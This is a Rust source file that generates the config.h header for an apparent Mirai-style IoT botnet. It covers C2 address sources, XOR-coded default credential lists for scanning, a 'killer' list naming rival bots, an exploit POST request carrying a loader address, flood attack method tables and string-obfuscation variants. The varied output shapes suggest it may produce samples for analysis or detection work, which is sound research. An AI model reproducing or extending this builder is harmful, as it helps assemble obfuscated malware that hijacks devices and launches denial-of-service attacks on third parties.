//! Writes a configuration as `config.h`, with every text already coded.

use std::{fmt::Write as _, net::Ipv4Addr};

use super::{
    attacks::{DefaultValue, OPTIONS},
    ciphers::Cipher,
    configuration::{C2From, Configuration, Dispatch, Host, Shape, Strings},
    entries::Entry,
    fork::Fork,
    header_cipher, header_reach,
    values::folded,
};

/// A header under construction.
pub(super) struct Header(String);

impl Header {
    pub(super) fn define(&mut self, name: &str, value: impl std::fmt::Display) {
        // Writing to a String cannot fail.
        let _ = writeln!(self.0, "#define {name} {value}");
    }

    /// A list macro: every row applies the macro's argument.
    pub(super) fn list(
        &mut self,
        name: &str,
        argument: &str,
        rows: impl IntoIterator<Item = String>,
    ) {
        let rows: Vec<String> =
            rows.into_iter().map(|row| format!("    {argument}({row})")).collect();
        self.define(&format!("{name}({argument})"), format!("\\\n{}", rows.join(" \\\n")));
    }

    /// A list in so many lists, one behind the other, named by their number.
    fn parts(&mut self, name: &str, argument: &str, rows: Vec<String>, count: usize) {
        for (number, part) in (1..).zip(rows.chunks(rows.len().div_ceil(count).max(1))) {
            self.list(&format!("{name}_{number}"), argument, part.to_vec());
        }
    }

    pub(super) fn octets(&mut self, prefix: &str, address: Ipv4Addr) {
        for (index, octet) in (1..).zip(address.octets()) {
            self.define(&format!("{prefix}_{index}"), octet);
        }
    }
}

/// Bytes as a C string literal, every one escaped.
pub(super) fn literal(bytes: &[u8]) -> String {
    let escaped: String = bytes.iter().map(|byte| format!("\\x{byte:02x}")).collect();
    format!("\"{escaped}\"")
}

/// The text of `config.h`.
pub(super) fn config_header(configuration: &Configuration) -> String {
    let mut header = Header(String::from("/* Generated. */\n"));
    settings(&mut header, configuration);
    strings(&mut header, configuration);
    lists(&mut header, configuration);
    addresses(&mut header, configuration);
    scanner(&mut header, configuration);
    attacks(&mut header, configuration);
    header_cipher::write(&mut header, configuration);
    header_reach::write(&mut header, configuration);
    header.0
}

fn settings(header: &mut Header, configuration: &Configuration) {
    let style = configuration.style;
    header.define("STYLE_ADD_ENTRY", style.add_entry);
    header.define("STYLE_KEY", style.key);
    header.define("STYLE_RECORD", style.record);
    header.define("STYLE_LINKAGE", style.linkage);
    header.define("STYLE_COPY", style.copy);
    header.define("STYLE_GATE", style.gate);
    let strings = match configuration.strings {
        Strings::Table => "STRINGS_TABLE",
        Strings::Loose => "STRINGS_LOOSE",
        Strings::Image => "STRINGS_IMAGE",
        Strings::Stack => "STRINGS_STACK",
    };
    header.define("STRINGS_FROM", strings);
    let (table, logins) = match configuration.shape {
        Shape::Calls => ("FORM_CALLS", "LOGINS_CALLS"),
        Shape::Loop => ("FORM_LOOP", "LOGINS_LOOP"),
        Shape::Static => ("FORM_STATIC", "LOGINS_PACKED"),
        Shape::Object => ("FORM_OBJECT", "LOGINS_OBJECT"),
        Shape::Cipher => ("FORM_CIPHER", "LOGINS_CIPHER"),
        Shape::Block => ("FORM_BLOCK", "LOGINS_CIPHER"),
        Shape::Slots => ("FORM_SLOTS", "LOGINS_CIPHER"),
        Shape::OwnKeys => ("FORM_OWN_KEYS", "LOGINS_OWN_KEYS"),
    };
    let logins = match configuration.credential_cipher {
        Cipher::Stack => "LOGINS_STACK",
        Cipher::Xor if logins == "LOGINS_CIPHER" => "LOGINS_CALLS",
        _ => logins,
    };
    header.define("TABLE_FORM", table);
    header.define("LOGINS_FROM", logins);
    let dispatch = match configuration.dispatch {
        Dispatch::Registry => "DISPATCH_REGISTRY",
        Dispatch::Switch => "DISPATCH_SWITCH",
        Dispatch::Text => "DISPATCH_TEXT",
    };
    header.define("DISPATCH", dispatch);
    header.define("HAS_SCANNER", u8::from(configuration.has_scanner()));
    header.define("HAS_ATTACKS", u8::from(!configuration.attacks.is_empty()));
    header.define("HAS_EXPLOIT", u8::from(configuration.exploit.is_some()));
    header.define("TABLE_KEY", format!("0x{:08x}u", configuration.key));
    header.define("TABLE_KEY_FOLDED", format!("0x{:02x}", folded(configuration.key)));
    header.define("CREDENTIAL_KEY", format!("0x{:08x}u", configuration.credential_key));
    header
        .define("CREDENTIAL_KEY_FOLDED", format!("0x{:02x}", folded(configuration.credential_key)));
}

/// Ids and table rows, or coded globals.
fn strings(header: &mut Header, configuration: &Configuration) {
    let entries = &configuration.entries;
    if configuration.strings == Strings::Table {
        let size = entries.iter().map(|entry| entry.id + 1).max().unwrap_or(1);
        header.define("TABLE_SIZE", size);
        for entry in entries {
            header.define(&format!("ID_{}", entry.name), entry.id);
        }
        let row = |entry: &Entry| {
            let coded = configuration.coded(entry);
            format!("{}, {}, {}", entry.id, literal(&coded), entry.value.bytes().len())
        };
        header.list("TABLE_ENTRIES", "ENTRY", entries.iter().map(row));
        header.parts("TABLE_ENTRIES", "ENTRY", entries.iter().map(row).collect(), 3);
    } else {
        for entry in entries {
            header.define(&format!("LENGTH_{}", entry.name), configuration.coded(entry).len());
        }
        if entries.iter().any(|entry| entry.name == "WATCHDOG") {
            header.define("ID_WATCHDOG", 1);
        }
        let row = |entry: &Entry| {
            let coded = configuration.coded(entry);
            format!("{}, {}, {}", entry.name, literal(&coded), coded.len())
        };
        header.list("CODED_STRINGS", "CODED", entries.iter().map(row));
    }
}

/// Which names the killer, the user agents and the header reader go through.
fn lists(header: &mut Header, configuration: &Configuration) {
    let names = |wanted: &dyn Fn(&str) -> bool| -> Vec<String> {
        let mut names: Vec<String> = configuration
            .entries
            .iter()
            .filter(|entry| wanted(&entry.name))
            .map(|entry| entry.name.clone())
            .collect();
        names.sort();
        names
    };
    const KILLER_NAMES: [&str; 6] = [
        "KILLER_QBOT",
        "KILLER_QBOT_2",
        "KILLER_QBOT_3",
        "KILLER_PACKED",
        "KILLER_ZOLLARD",
        "KILLER_REMAITEN",
    ];
    const HEADER_NAMES: [&str; 11] = [
        "HTTP_COOKIE",
        "HTTP_REFRESH",
        "HTTP_LOCATION",
        "HTTP_SET_COOKIE",
        "HTTP_CONTENT_LENGTH",
        "HTTP_TRANSFER",
        "HTTP_CHUNKED",
        "HTTP_ALIVE",
        "HTTP_CONNECTION",
        "HTTP_SERVER",
        "HTTP_SERVER_2",
    ];
    let killer = names(&|name| KILLER_NAMES.contains(&name) || name.starts_with("KILLER_MORE_"));
    let agents = names(&|name| name.starts_with("USER_AGENT_"));
    header.define("USER_AGENT_COUNT", agents.len());
    header.list("KILLER_NAMES", "RIVAL", killer);
    header.list("USER_AGENTS", "AGENT", agents);
    header.list("HTTP_HEADERS", "HEADER", names(&|name| HEADER_NAMES.contains(&name)));
}

fn addresses(header: &mut Header, configuration: &Configuration) {
    let c2 = &configuration.c2;
    let from = match c2.from {
        C2From::Table => "C2_TABLE",
        C2From::Name => "C2_NAME",
        C2From::Dotted => "C2_DOTTED",
        C2From::Immediate => "C2_IMMEDIATE",
        C2From::Main => "C2_MAIN",
        C2From::ManyTable => "C2_MANY_TABLE",
        C2From::ManyDotted => "C2_MANY_DOTTED",
        C2From::ManyImmediate => "C2_MANY_IMMEDIATE",
        C2From::Argument => "C2_ARGUMENT",
        C2From::Ipv6Bytes => "C2_IPV6_BYTES",
        C2From::Ipv6Text => "C2_IPV6_TEXT",
        C2From::Ipv6Table => "C2_IPV6_TABLE",
        C2From::Txt => "C2_TXT",
        C2From::Record => "C2_RECORD",
        C2From::NextTable => "C2_NEXT_TABLE",
        C2From::NextDotted => "C2_NEXT_DOTTED",
        C2From::NextImmediate => "C2_NEXT_IMMEDIATE",
        C2From::DeadDrop => "C2_DEAD_DROP",
    };
    header.define("C2_FROM", from);
    header.define("C2_PORT_FROM", if c2.port_in_table { "PORT_TABLE" } else { "PORT_CONSTANT" });
    header.define("C2_PORT_NUMBER", c2.port);
    let quoted: Vec<String> = c2.hosts.iter().map(|host| format!("\"{}\"", host.text())).collect();
    match (c2.from, c2.hosts.first()) {
        (C2From::Name | C2From::Dotted | C2From::Ipv6Text, _) => {
            header.define("C2_PLAIN", quoted.join(""));
        }
        (C2From::ManyDotted | C2From::NextDotted, _) => {
            header.define("C2_PLAIN_LIST", quoted.join(", "))
        }
        (C2From::ManyImmediate | C2From::NextImmediate, _) => {
            header.define("C2_ADDRESS_LIST", network_addresses(&c2.hosts).join(", "));
        }
        (C2From::Immediate | C2From::Main, Some(Host::V4(address))) => {
            header.octets("C2", *address);
        }
        (C2From::Ipv6Bytes, Some(Host::V6(address))) => {
            let octets: Vec<String> = address.octets().iter().map(u8::to_string).collect();
            header.define("C2_IPV6_OCTETS", octets.join(", "));
        }
        _ => {}
    }
    header.octets("DECOY", configuration.decoy.0);
    header.define("DECOY_PORT", configuration.decoy.1);
    header.octets("REFERENCE", configuration.reference.0);
    header.define("REFERENCE_PORT", configuration.reference.1);
    header.octets("RESOLVER", configuration.resolver);
    header.define("SINGLE_INSTANCE_PORT", configuration.single_instance_port);
    header.define("KILLER_PORT", configuration.killer_port);
    let shifted: Vec<u8> = configuration
        .own_name
        .bytes()
        .zip(0u8..)
        .map(|(byte, index)| byte + 1 + index % 3)
        .collect();
    header.define("GATE_NAME_SHIFTED", literal(&shifted));
}

fn network_addresses(hosts: &[Host]) -> Vec<String> {
    hosts
        .iter()
        .filter_map(|host| match host {
            Host::V4(address) => {
                let [a, b, c, d] = address.octets();
                Some(format!("NETWORK_ADDRESS({a}, {b}, {c}, {d})"))
            }
            Host::Name(_) | Host::V6(_) => None,
        })
        .collect()
}

fn scanner(header: &mut Header, configuration: &Configuration) {
    if let Some((_, port)) = &configuration.scan_receiver {
        header.define("SCAN_RECEIVER_PORT_NUMBER", port);
    }
    if let Some(probes) = &configuration.probes {
        header.define("PROBE_PORT", probes.port);
        header.define("PROBE_OTHER_PORT", probes.other_port);
        header.define("PROBE_OTHER_EVERY", probes.every);
    }
    let key = folded(configuration.credential_key);
    let pairs: Vec<String> = configuration
        .credentials
        .iter()
        .map(|pair| {
            let coded = |text: &str| literal(&configuration.coded_login(pair, text));
            format!("{}, {}, {}", coded(&pair.user), coded(&pair.password), pair.weight)
        })
        .collect();
    header.parts("CREDENTIALS", "PAIR", pairs.clone(), 2);
    header.define("LOGIN_COUNT", pairs.len());
    header.list("CREDENTIALS", "PAIR", pairs);
    header.define("PACKED_LOGINS", packed(configuration, key));
    if let Some(exploit) = &configuration.exploit {
        header.define("EXPLOIT_PORT", exploit.port);
        header.define("EXPLOIT_REQUEST", exploit_request(exploit));
    }
}

/// Each pair as its weight, and both texts coded behind their lengths.
fn packed(configuration: &Configuration, key: u8) -> String {
    let mut bytes = Vec::new();
    for pair in &configuration.credentials {
        bytes.push(pair.weight as u8);
        for text in [&pair.user, &pair.password] {
            bytes.push(text.len() as u8);
            bytes.extend(text.bytes().map(|byte| byte ^ key));
        }
    }
    bytes.iter().map(|byte| format!("{byte}, ")).collect()
}

/// Request line, length and the loader address in the body; nothing that a device would run.
fn exploit_request(exploit: &super::configuration::Exploit) -> String {
    let body = exploit_body(exploit);
    format!(
        "\"POST {} HTTP/1.1\\r\\nConnection: keep-alive\\r\\nContent-Length: {}\\r\\n\\r\\n{}\"",
        exploit.path,
        body.len(),
        body
    )
}

/// The body of the request.
pub(super) fn exploit_body(exploit: &super::configuration::Exploit) -> String {
    format!("firmware={}", exploit.loader)
}

fn attacks(header: &mut Header, configuration: &Configuration) {
    let keys = configuration.attacks.iter().flat_map(|attack| &attack.parameters);
    for option in &OPTIONS {
        if let Some(parameter) = keys.clone().find(|parameter| parameter.option == option) {
            header.define(&format!("OPTION_{}", option.macro_name), parameter.key);
        }
    }
    for attack in &configuration.attacks {
        for parameter in &attack.parameters {
            if let DefaultValue::Int(value) = parameter.default {
                let name =
                    format!("DEFAULT_{}_{}", attack.kind.macro_name, parameter.option.macro_name);
                header.define(&name, value);
            }
        }
    }
    if configuration.fork == Fork::ObservedAttacks {
        header.define("ATTACKS_SPIN", 1);
        header.define("MORE_ATTACKS", 1);
    }
    header.list(
        "ATTACKS",
        "METHOD",
        configuration.attacks.iter().map(|attack| {
            format!("{}, \"{}\", {}", attack.vector, attack.command, attack.kind.handler)
        }),
    );
}
